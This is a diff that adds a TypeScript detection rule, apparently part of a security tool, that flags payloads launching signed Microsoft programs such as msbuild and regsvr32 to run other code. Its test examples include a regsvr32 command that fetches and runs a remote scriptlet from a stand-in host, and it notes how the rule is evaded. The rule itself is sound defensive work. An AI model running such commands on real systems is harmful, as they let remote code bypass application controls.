@@ -1,0 +1,25 @@
+import { PROXIES } from '../facts/proxies.data';
+import type { Payload } from '../payload/payload';
+import { defineJudgement, techniques } from './judgement';
+import { byProgram, distinct } from './payload-evidence';
+
+/** A signed program that runs other code. */
+export const proxy = defineJudgement<Payload>({
+  id: 'proxy',
+  part: 'consumer',
+  field: 'Destination',
+  weight: 'high',
+  techniques: techniques(...new Set(PROXIES.map(({ technique }) => technique))),
+  summary: 'The payload starts a program of Microsoft that runs code of others, so that the code looks signed.',
+  howWrong: 'Installers and old management scripts use msiexec, regsvr32, rundll32 and wmic.',
+  evades: 'Uses a signed program that no list has, or copies one under another name.',
+  examples: {
+    fires: [
+      'C:\\Windows\\System32\\msbuild.exe C:\\Temp\\a.xml',
+      'regsvr32 /s /u /i:http://a.example/x.sct scrobj.dll',
+      'explorer.exe \\\\srv\\share\\a.lnk',
+    ],
+    silent: ['C:\\Tools\\msbuild-log-viewer.exe', 'C:\\Windows\\explorer.exe'],
+  },
+  judge: (payload) => distinct(payload, byProgram(payload, PROXIES)),
+});
